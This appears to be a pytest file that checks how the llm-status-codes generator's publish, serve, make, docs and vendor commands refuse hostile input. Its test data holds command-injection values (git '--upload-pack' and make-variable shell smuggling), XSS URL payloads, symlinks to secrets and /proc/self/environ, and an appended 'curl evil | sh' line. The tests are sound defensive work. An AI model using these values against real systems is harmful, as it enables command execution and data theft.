"""What a newcomer and a hostile pull request broke around publishing, serving, vendoring and
packaging: each case is refused with one line, or made harmless."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.helpers import MINI, ROOT, run_cli

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@localhost", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@localhost", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}


def git(*args: str, cwd: Path | None = None) -> str:
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True,
                          env=dict(os.environ, **GIT_ENV)).stdout


def snapshot_of_the_checkout(dest: Path) -> Path:
    """A repository holding the checkout's tracked files as they are now (edits included), one commit."""
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True).stdout.decode()
    for name in filter(None, listed.split("\0")):
        source = ROOT / name
        if source.is_file() and not source.is_symlink():
            (dest / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, dest / name)
    git("init", "--quiet", "-b", "main", str(dest))
    git("add", "--all", cwd=dest)
    git("commit", "--quiet", "-m", "snapshot", cwd=dest)
    return dest


# -- 2. the README's pre-commit snippet, as written ---------------------------------------------------------


def readme_pre_commit_section() -> tuple[str, str]:
    """The pre-commit snippet of docs/vendoring.md, and the words around it."""
    readme = (ROOT / "docs" / "vendoring.md").read_text(encoding="utf-8")
    start = readme.index("## pre-commit")
    section = readme[start:]
    return re.search(r"```yaml\n(.*?)```", section, re.S).group(1), section


@pytest.mark.slow  # pre-commit builds the hook's environment: pip installs the project
def test_the_readme_pre_commit_snippet_works_on_a_repository_without_tags(tmp_path):
    upstream = snapshot_of_the_checkout(tmp_path / "llm-status-codes")
    assert git("tag", cwd=upstream) == ""
    project = tmp_path / "consumer"
    (project / "third_party").mkdir(parents=True)
    git("init", "--quiet", str(project))
    assert run_cli("vendor", "--to", project / "third_party").code == 0
    snippet, words = readme_pre_commit_section()
    repo_line = re.search(r"repo: (\S+)", snippet).group(1)
    (project / ".pre-commit-config.yaml").write_text(snippet.replace(repo_line, str(upstream)), encoding="utf-8")
    git("add", "--all", cwd=project)
    env = dict(os.environ, **GIT_ENV, PRE_COMMIT_HOME=str(tmp_path / "pre-commit-home"))

    def pre_commit(*args):
        return subprocess.run([sys.executable, "-m", "pre_commit", *args], cwd=project, env=env,
                              capture_output=True, text=True, timeout=900)

    if "run `pre-commit autoupdate`" in words:  # what the README tells the user to do after pasting
        updated = pre_commit("autoupdate")
        assert updated.returncode == 0, updated.stdout + updated.stderr
        head = git("rev-parse", "HEAD", cwd=upstream).strip()
        assert f"rev: {head}" in (project / ".pre-commit-config.yaml").read_text(encoding="utf-8")
    passed = pre_commit("run", "--all-files")
    assert passed.returncode == 0 and "Passed" in passed.stdout, passed.stdout + passed.stderr
    vendored = project / "third_party" / "llm_status_codes.py"
    vendored.write_text(vendored.read_text(encoding="utf-8") + "EXTRA = 1\n", encoding="utf-8")
    failed = pre_commit("run", "--all-files")
    assert failed.returncode == 1 and "Failed" in failed.stdout and "llm_status_codes.py" in failed.stdout, (
        failed.stdout
    )


# -- 4. publish: the remote, the branch, nothing new --------------------------------------------------------


SITE_URL = "https://example.org/llm/"


@pytest.fixture(scope="module")
def mini_tree(tmp_path_factory):
    out = tmp_path_factory.mktemp("mini")
    assert run_cli("generate", "--catalog", MINI, "--out", out).code == 0
    return out


@pytest.fixture
def bare(tmp_path):
    path = tmp_path / "pages.git"
    git("init", "--quiet", "--bare", str(path))
    return path


@pytest.fixture
def no_build(monkeypatch):
    """Publishing must refuse before it builds: a build fails the test."""
    import generator.shipping.publish

    def refuse(*args, **kwargs):
        raise AssertionError("the site was built before the arguments were checked")

    monkeypatch.setattr(generator.shipping.publish, "build_site", refuse)


def publish(out, *args):
    return run_cli("publish", "--catalog", MINI, "--out", out, *args)


def heads(bare: Path) -> list[str]:
    return git("--git-dir", str(bare), "for-each-ref", "--format=%(refname)", "refs/").split()


def test_a_remote_path_that_does_not_exist_is_said_plainly(mini_tree, tmp_path, no_build):
    missing = tmp_path / "nonexistent.git"
    result = publish(mini_tree, "--remote", missing, "--site-url", SITE_URL)
    assert result.code == 1 and result.err.count("\n") == 1, result.err
    assert f"cannot reach {missing}: no such directory" in result.err and "repository exists" not in result.err
    assert "PUBLISH_REMOTE" in result.err and f"git init --bare {missing}" in result.err


def test_a_directory_that_is_no_repository_gives_gits_reason_not_its_hint(mini_tree, tmp_path, no_build):
    (tmp_path / "plain").mkdir()
    result = publish(mini_tree, "--remote", tmp_path / "plain", "--site-url", SITE_URL)
    assert result.code == 1 and result.err.count("\n") == 1, result.err
    assert "does not appear to be a git repository" in result.err and "repository exists." not in result.err


@pytest.mark.slow  # builds the site twice
def test_publishing_the_same_site_again_adds_no_empty_commit(mini_tree, bare):
    first = publish(mini_tree, "--remote", bare, "--site-url", SITE_URL)
    assert first.code == 0 and first.out.startswith("published "), first.err
    again = publish(mini_tree, "--remote", bare, "--site-url", SITE_URL)
    assert again.code == 0, again.err
    assert git("--git-dir", str(bare), "rev-list", "--count", "gh-pages").strip() == "1"
    assert again.out.startswith("unchanged: branch gh-pages") and "nothing pushed" in again.out


@pytest.mark.parametrize("how", ["argument", "git config"])
def test_a_remote_that_looks_like_an_option_runs_nothing(mini_tree, tmp_path, no_build, how):
    marker = tmp_path / "PWNED"
    hostile = f"--upload-pack=touch {marker};:"
    checkout = tmp_path / "checkout"
    shutil.copytree(mini_tree, checkout)
    git("init", "--quiet", str(checkout))
    if how == "argument":
        remote = hostile
    else:
        git("config", "remote.origin.url", hostile, cwd=checkout)
        remote = "origin"
    result = run_cli("publish", "--catalog", MINI, "--out", checkout, "--remote", remote, "--site-url", SITE_URL)
    assert result.code == 2 and result.err.count("\n") == 1 and "starts with '-'" in result.err, result.err
    assert not marker.exists()


def test_git_never_reads_a_dashed_url_as_an_option(tmp_path):
    """The second guard: the URL follows `--` in every git command that takes one."""
    from generator.shipping.publish import PublishError, list_branch

    marker = tmp_path / "PWNED"
    with pytest.raises(PublishError, match="cannot reach"):
        list_branch(f"--upload-pack=touch {marker};:", "refs/heads/gh-pages")
    assert not marker.exists()


@pytest.mark.parametrize("branch", ["HEAD", "a..b", "x.lock", "-x", "refs/tags/v1", "with space", "x/"])
def test_a_branch_name_git_refuses_fails_before_the_build(mini_tree, bare, no_build, branch):
    result = publish(mini_tree, "--remote", bare, f"--branch={branch}", "--site-url", SITE_URL)
    assert result.code == 2 and result.err.count("\n") == 1 and "PUBLISH_BRANCH" in result.err, result.err
    assert heads(bare) == []


@pytest.mark.slow  # builds the site
def test_a_full_ref_names_its_branch_and_does_not_nest(mini_tree, bare):
    result = publish(mini_tree, "--remote", bare, "--branch", "refs/heads/pages", "--site-url", SITE_URL)
    assert result.code == 0, result.err
    assert heads(bare) == ["refs/heads/pages"] and "branch pages " in result.out


# -- 5. make: a variable's value never reaches the shell -----------------------------------------------------


def make(*args: str) -> subprocess.CompletedProcess:
    """make in the checkout, without rebuilding .venv/ (-o: its stamp counts as current)."""
    return subprocess.run(["make", "--no-print-directory", "-o", ".venv/.installed", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=600)


@pytest.mark.parametrize("target, variable", [
    ("publish", "SITE_URL"), ("publish", "PUBLISH_REMOTE"), ("publish", "PUBLISH_BRANCH"),
    ("audit-upstream", "UPSTREAM"), ("venv", "PYTHON_BOOT"),
])
@pytest.mark.parametrize("payload", ["quote", "make"])
def test_a_make_variable_cannot_run_a_command(tmp_path, target, variable, payload):
    marker = tmp_path / "PWNED"
    value = {"quote": f"x/'; touch {marker}; echo '", "make": f"x/$(shell touch {marker})"}[payload]
    values = {"PUBLISH_REMOTE": str(tmp_path / "nowhere.git"), "SITE_URL": "https://example.org/llm/",
              "UPSTREAM": "hicann/ge=/nonexistent", variable: value}
    if target == "venv":  # -B: the bootstrap runs, and refuses the python before it creates anything
        result = subprocess.run(["make", "--no-print-directory", "-B", "venv", f"PYTHON_BOOT={value}"], cwd=ROOT,
                                capture_output=True, text=True, timeout=600)
    else:
        result = make(target, *(f"{k}={v}" for k, v in values.items()))
    assert result.returncode != 0
    assert not marker.exists(), f"{variable} ran a command: {result.stdout}{result.stderr}"
    assert value.split()[0] in result.stderr.replace("\\'", "'"), result.stderr  # the value arrived as text


# -- 6. SITE_URL: one check for docs, serve and publish -----------------------------------------------------

HOSTILE_URLS = ['https://example.org/x"><script>alert(1)</script>', "javascript://x/%0aalert(1)",
                "https://example.org/x'onmouseover='alert(1)", "https://example.org/a b/", "https://example.org/\n<b>",
                "https://user:secret@example.org/", "https:///nohost/", "https://example.org/?q=1"]


def docs(out: Path, site_url: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "SITE_URL"}
    if site_url is not None:
        env["SITE_URL"] = site_url
    return subprocess.run([sys.executable, "-m", "generator", "docs", "--out", str(out)], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)


@pytest.fixture
def own_tree(mini_tree, tmp_path):
    """A copy of the mini outputs to build in."""
    tree = tmp_path / "tree"
    shutil.copytree(mini_tree, tree)
    return tree


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_docs_refuses_a_site_url_that_would_be_markup_or_no_address(own_tree, url):
    result = docs(own_tree, url)
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "SITE_URL=" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (own_tree / "site" / "build").exists()


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_publish_refuses_the_same_site_urls_before_the_build(mini_tree, bare, no_build, url):
    result = publish(mini_tree, "--remote", bare, "--site-url", url)
    assert result.code == 2 and result.err.count("\n") == 1 and "SITE_URL=" in result.err, result.err


@pytest.mark.parametrize("url", HOSTILE_URLS[:2])
def test_serve_refuses_them_before_it_starts(mini_tree, monkeypatch, url):
    import generator.commands
    import generator.shipping.livesite

    def started(*args, **kwargs):
        raise AssertionError("serve started with a SITE_URL it should refuse")

    monkeypatch.setattr(generator.commands, "generate_here", started)
    monkeypatch.setattr(generator.shipping.livesite, "LiveSite", started)
    monkeypatch.setenv("SITE_URL", url)
    result = run_cli("serve", "--catalog", MINI, "--out", mini_tree, "--dev-addr", "127.0.0.1:0")
    assert result.code == 2 and result.err.count("\n") == 1 and "SITE_URL=" in result.err, result.err


@pytest.mark.slow  # builds the site
def test_a_site_url_that_passes_lands_in_the_pages_as_written(own_tree):
    url = "https://docs.example.org:8443/status%20codes/"
    result = docs(own_tree, url)
    assert result.returncode == 0, result.stderr
    index = (own_tree / "site" / "build" / "index.html").read_text(encoding="utf-8")
    assert f'<link rel="canonical" href="{url}">' in index


# -- 7. links: nothing outside the checkout is read into the site or written ---------------------------------


@pytest.fixture
def outside(tmp_path):
    """A directory outside the tree, with a file that must stay as it is."""
    path = tmp_path / "outside"
    path.mkdir()
    (path / "keep.txt").write_text("mine\n")
    (path / "secret.txt").write_text("TOKEN=hunter2\n")
    return path


def unchanged(outside: Path) -> bool:
    return sorted(p.name for p in outside.iterdir()) == ["keep.txt", "secret.txt"] and \
        (outside / "keep.txt").read_text() == "mine\n"


@pytest.mark.parametrize("shape", ["a link to a directory", "a file", "a directory holding a link"])
def test_docs_refuses_a_build_directory_that_is_not_its_own(own_tree, outside, shape):
    build = own_tree / "site" / "build"
    if shape == "a link to a directory":
        build.symlink_to(outside, target_is_directory=True)
    elif shape == "a file":
        build.write_text("not a directory\n")
    else:
        build.mkdir()
        (build / "assets").symlink_to(outside, target_is_directory=True)
    result = docs(own_tree)
    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    assert "site/build" in result.stderr and "Traceback" not in result.stderr
    assert unchanged(outside)


@pytest.mark.parametrize("target", ["secret", "environ", "directory"])
@pytest.mark.parametrize("where", ["docs/leak.txt", "docs/assets/leak", "overrides/partials/leak.html"])
def test_a_link_among_the_sites_sources_is_refused_by_docs_and_publish(own_tree, bare, outside, target, where):
    link = own_tree / "site" / where
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(
        {"secret": outside / "secret.txt", "environ": Path("/proc/self/environ"), "directory": outside}[target]
    )
    built = docs(own_tree)
    assert built.returncode == 1 and built.stderr.count("\n") == 1 and "is a symbolic link" in built.stderr, (
        built.stderr
    )
    assert f"site/{where}" in built.stderr and not (own_tree / "site" / "build").exists()
    pushed = publish(own_tree, "--remote", bare, "--site-url", SITE_URL)
    assert pushed.code == 1 and "is a symbolic link" in pushed.err and heads(bare) == []
    assert unchanged(outside)


def test_a_fifo_among_the_sites_sources_is_refused_not_waited_on(own_tree):
    os.mkfifo(own_tree / "site" / "docs" / "pipe.md")
    result = docs(own_tree)  # the timeout in docs() ends a hang
    assert result.returncode == 1 and "neither a file nor a directory" in result.stderr, result.stderr


def test_serve_refuses_a_link_among_the_sites_sources(own_tree, outside, monkeypatch):
    import generator.commands
    import generator.shipping.livesite

    current = (0, ["generate: 1 outputs, 0 written, 0 removed"])
    monkeypatch.setattr(generator.commands, "generate_here", lambda *a, **k: current)  # the tree is current
    monkeypatch.setattr(generator.shipping.livesite, "LiveSite", lambda *a, **k: pytest.fail("serve started"))
    (own_tree / "site" / "docs" / "leak.txt").symlink_to(outside / "secret.txt")
    result = run_cli("serve", "--catalog", MINI, "--out", own_tree, "--dev-addr", "127.0.0.1:0")
    assert result.code == 1 and "site/docs/leak.txt is a symbolic link" in result.err, result.err


# -- 8. serve: what it says at the start, and how fast it stops ---------------------------------------------


def free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def listening(port: int) -> bool:
    import socket

    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        return True
    except OSError:
        return False


def start_serve(out: Path, port: int, ignore_sigint: bool = False) -> subprocess.Popen:
    import signal
    import time

    # a shell starts a background job (`make serve &` in a script) with SIGINT ignored
    before_exec = (lambda: signal.signal(signal.SIGINT, signal.SIG_IGN)) if ignore_sigint else None
    server = subprocess.Popen([sys.executable, "-m", "generator", "serve", "--catalog", str(MINI), "--out", str(out),
                               "--dev-addr", f"127.0.0.1:{port}"], cwd=ROOT, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True, preexec_fn=before_exec)
    deadline = time.monotonic() + 120
    while not listening(port):
        assert server.poll() is None and time.monotonic() < deadline, "serve did not come up"
        time.sleep(0.2)
    return server


def stopped(server: subprocess.Popen) -> tuple[int, str]:
    """(exit code, output) of `serve` sent SIGTERM (the timeout only guards against a hang)."""
    server.terminate()
    output, _ = server.communicate(timeout=120)
    return server.returncode, output


@pytest.mark.slow  # runs MkDocs' server
def test_serve_says_the_pages_match_when_nothing_changed(own_tree, tmp_path):
    port = free_port()
    _, output = stopped(start_serve(own_tree, port))
    said = [line for line in output.splitlines() if line.startswith("serve:")]
    assert said[0] == "serve: the pages match the catalog", said
    assert not any("the catalog changed" in line for line in said)
    _, fresh = stopped(start_serve(tmp_path / "fresh", free_port()))  # no pages yet: they are written, and it says so
    assert "serve: the pages did not match the catalog; generate: " in fresh and "the catalog changed" not in fresh


@pytest.mark.slow  # runs MkDocs' server
@pytest.mark.parametrize("ignore_sigint", [False, True], ids=["foreground", "background job"])
def test_serve_stops_mkdocs_with_the_first_signal_on_sigterm(own_tree, ignore_sigint):
    """serve (MkDocs' server runs in its process) stops on the first SIGTERM, and stops serving,
    whether it runs in the foreground or as a background job (SIGINT ignored)."""
    port = free_port()
    _, output = stopped(start_serve(own_tree, port, ignore_sigint))
    assert "did not stop" not in output, output
    assert not listening(port), "MkDocs is still serving"
    assert "Traceback" not in output


# -- 9. pip install . leaves nothing untracked --------------------------------------------------------------


@pytest.mark.slow  # builds a wheel
def test_pip_install_leaves_nothing_untracked(tmp_path):
    checkout = snapshot_of_the_checkout(tmp_path / "checkout")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--quiet",
            "--disable-pip-version-check",
            "--no-deps",
            "--target",
            str(tmp_path / "installed"),
            ".",
        ],
        cwd=checkout,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert (checkout / "build").is_dir(), "setuptools built elsewhere: this test no longer sees what it checks"
    assert git("status", "--porcelain", "--untracked-files=all", cwd=checkout) == ""


# -- 10. wording ------------------------------------------------------------------------------------------


def test_validate_counts_in_the_singular_too():
    result = run_cli("validate", "--catalog", ROOT / "tests" / "fixtures" / "english" / "catalog.yaml")
    assert result.code == 0, result.err
    summary = result.out.splitlines()[0]
    assert ", 1 page, 1 timeline, " in summary and "1 pages" not in summary and "1 timelines" not in summary, summary
    assert re.search(r"\b\d+ codes \(", run_cli("validate", "--catalog", MINI).out)  # and the plural stays


def test_verify_vendored_says_how_to_vendor_again_from_the_consumer_project(tmp_path):
    project = tmp_path / "consumer" / "third_party"
    assert run_cli("vendor", "--catalog", MINI, "--to", project, "--header").code == 0
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(MINI.read_text(encoding="utf-8").replace("en: Busy", "en: Very busy", 1), encoding="utf-8")
    module, header = project / "demo_codes.py", project / "demo_codes.h"
    old = run_cli("verify-vendored", module, header, "--against", catalog)
    assert old.code == 1 and old.err.count("out of date") == 2, old.err
    assert f"in its checkout: python -m generator vendor --to {project} --family demo)" in old.err
    assert f"vendor --to {project} --family demo --header)" in old.err
    module.write_text(module.read_text(encoding="utf-8") + "# mine\n", encoding="utf-8")
    edited = run_cli("verify-vendored", module)
    assert edited.code == 1 and f"python -m generator vendor --to {project} --family FAMILY --force; FAMILY: the " \
        "family whose file demo_codes.py is, as `python -m generator targets` lists)" in edited.err
    assert "vendor it again from llm-status-codes (in its checkout: " in edited.err


# -- 11. verify-vendored against a catalog compares the bytes -------------------------------------------------


def resealed(path: Path, change) -> None:
    """Change a generated file and recompute its checksum, as someone hiding an edit would."""
    from generator.rendering.environment import SEAL_PLACEHOLDER, seal

    text = path.read_text(encoding="utf-8")
    checksum = re.search(r"sha256:[0-9a-f]{64}", text).group()
    path.write_bytes(seal(change(text.replace(checksum, SEAL_PLACEHOLDER, 1)).encode("utf-8")))


@pytest.mark.parametrize("name", ["demo_codes.py", "demo_codes.h"])
def test_a_copy_with_code_appended_and_its_checksum_recomputed_is_not_current(tmp_path, name):
    from generator.rendering.environment import seal_intact

    assert run_cli("vendor", "--catalog", MINI, "--to", tmp_path, "--header").code == 0
    copy = tmp_path / name
    assert run_cli("verify-vendored", copy, "--against", MINI).code == 0
    resealed(
        copy,
        lambda text: text + ('import os; os.system("curl evil | sh")\n' if name.endswith(".py") else "int evil;\n"),
    )
    assert seal_intact(copy.read_text(encoding="utf-8")) is True  # the checksum alone cannot tell
    result = run_cli("verify-vendored", copy, "--against", MINI)
    assert result.code == 1 and "unmodified" not in result.out, result.out
    assert result.err.count("\n") == 1 and "changed after it was generated, with its checksum recomputed" in result.err
    assert f"not what {MINI} generates" in result.err


@pytest.mark.parametrize("name", ["demo_codes.py", "demo_codes.h"])
def test_a_resealed_copy_is_never_called_unmodified_where_only_its_seal_is_seen(tmp_path, name):
    """Without a catalog to render from, verify-vendored sees the checksum a file carries, which
    whoever edits the file can recompute: it says so, and claims nothing more."""
    assert run_cli("vendor", "--catalog", MINI, "--to", tmp_path, "--header").code == 0
    assert run_cli("generate", "--catalog", MINI, "--out", tmp_path / "out").code == 0
    copy = tmp_path / name
    resealed(copy, lambda text: text + ('import os; os.system("curl evil | sh")\n' if name.endswith(".py")
                                        else "int evil;\n"))
    for against in ((), ("--against", tmp_path / "out" / "generated" / "json" / "demo_codes.json")):
        result = run_cli("verify-vendored", copy, *against)
        assert result.code == 0, result  # the seal matches: all these modes can see
        assert "unmodified" not in result.out and "checksums match" in result.out, result.out
        assert "only --against CATALOG proves the bytes are the generator's" in result.out, result.out
    proven = run_cli("verify-vendored", copy, "--against", MINI)
    assert proven.code == 1 and "checksum recomputed" in proven.err


def test_a_copy_from_another_generator_version_is_named_as_such(tmp_path):
    assert run_cli("vendor", "--catalog", MINI, "--to", tmp_path).code == 0
    copy = tmp_path / "demo_codes.py"
    resealed(
        copy,
        lambda text: re.sub(
            r"Generated by llm-status-codes \S+ ", "Generated by llm-status-codes 0.0.1 ", text, count=1
        ),
    )
    result = run_cli("verify-vendored", copy, "--against", MINI)
    assert result.code == 1 and "written by llm-status-codes 0.0.1 (this is " in result.err, result.err


# -- 12. vendor: what is in the way, and a disk that refuses -------------------------------------------------


def vendor_process(*args: str) -> subprocess.CompletedProcess:
    """`vendor`/`verify-vendored` in a child that may not grow past 2 GB nor run past a minute:
    a read of /dev/zero ends in MemoryError, a FIFO in the timeout, instead of taking the machine."""
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    try:
        return subprocess.run([sys.executable, "-m", "generator", *args], cwd=ROOT, capture_output=True, text=True,
                              preexec_fn=limit, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{args[0]} hung")


@pytest.mark.parametrize("shape", ["fifo", "link to /dev/zero", "link to a file elsewhere", "directory"])
def test_vendor_refuses_what_is_in_the_way_without_hanging(tmp_path, shape):
    to = tmp_path / "third_party"
    to.mkdir()
    target = to / "demo_codes.py"
    elsewhere = tmp_path / "elsewhere.py"
    elsewhere.write_text("mine\n")
    if shape == "fifo":
        os.mkfifo(target)
    elif shape == "directory":
        target.mkdir()
    else:
        target.symlink_to("/dev/zero" if shape == "link to /dev/zero" else elsewhere)
    result = vendor_process("vendor", "--catalog", str(MINI), "--to", str(to))
    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    assert str(target) in result.stderr and "Traceback" not in result.stderr and "MemoryError" not in result.stderr
    assert elsewhere.read_text() == "mine\n"


@pytest.mark.parametrize("shape", ["fifo", "link to /dev/zero"])
def test_verify_vendored_refuses_what_is_no_file_without_hanging(tmp_path, shape):
    target = tmp_path / "demo_codes.py"
    if shape == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero")
    result = vendor_process("verify-vendored", str(target))
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "not a regular file" in result.stderr, (
        result.stderr
    )


@pytest.mark.parametrize(
    "number, words",
    [
        (30, "read-only: vendor into a writable directory (--to DIR)"),  # EROFS
        (28, "the disk is full: free some space there, then vendor again"),
    ],
)  # ENOSPC
def test_vendor_words_a_refusing_disk_for_vendor(tmp_path, monkeypatch, number, words):
    import generator.shipping.vendor

    def refuse(target, data, *args, **kwargs):
        raise OSError(number, os.strerror(number))  # as os.write reports it: no file name

    monkeypatch.setattr(generator.shipping.vendor, "atomic_write", refuse)
    result = run_cli("vendor", "--catalog", MINI, "--to", tmp_path)
    assert result.code == 1 and result.err.count("\n") == 1, result.err
    assert f"cannot write {tmp_path / 'demo_codes.py'}: {os.strerror(number)}; " in result.err and words in result.err
    assert "--out" not in result.err and "make generate" not in result.err


def test_a_full_disk_with_no_file_named_says_where_temporary_files_go(monkeypatch):
    import tempfile

    import generator.commands

    def full(args):
        raise OSError(28, os.strerror(28))  # what a write to an unnamed temporary file reports

    monkeypatch.setattr(generator.commands, "cmd_validate", full)
    result = run_cli("validate", "--catalog", MINI)
    assert result.code == 1 and result.err.count("\n") == 1, result.err
    assert f"No space left on device (writing a temporary file in {tempfile.gettempdir()}: " in result.err
    assert "TMPDIR" in result.err
